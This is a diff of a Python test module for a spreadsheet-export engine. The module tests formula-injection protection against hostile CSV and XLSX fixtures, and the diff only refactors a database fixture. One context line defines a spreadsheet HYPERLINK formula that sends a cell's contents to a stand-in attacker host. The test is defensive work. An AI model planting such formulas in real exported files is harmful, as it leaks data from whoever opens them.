@@ -27,6 +27,9 @@ from hypothesis import strategies as st
 from engine import exports, plan, register, soa
 from engine.exports.safe import FORMULA_PREFIXES, safe_frame, safe_text
 from engine.store import query
+from tests import stores
+
+pytestmark = pytest.mark.both_stores
 
 HOSTILE = Path(__file__).resolve().parent.parent / "data" / "hostile"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -39,10 +42,7 @@ NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
 
 @pytest.fixture(scope="module")
 def hostile_db(tmp_path_factory: pytest.TempPathFactory, template_db: Path) -> Path:
-    import shutil
-
-    db = tmp_path_factory.mktemp("exports") / "hostile.duckdb"
-    shutil.copyfile(template_db, db)
+    db = stores.copy_db(template_db, tmp_path_factory.mktemp("exports"), "hostile.duckdb")
     for name in ("formula_cells.csv", "formula_cells.xlsx", "markup_and_sql_text.csv", "unicode_text.csv",
                  "huge_cell.csv", "nul_byte_in_cell.csv", "quoted_newlines.csv"):
         register.import_risks(db, HOSTILE / name, Path(name).name, actor="seed")
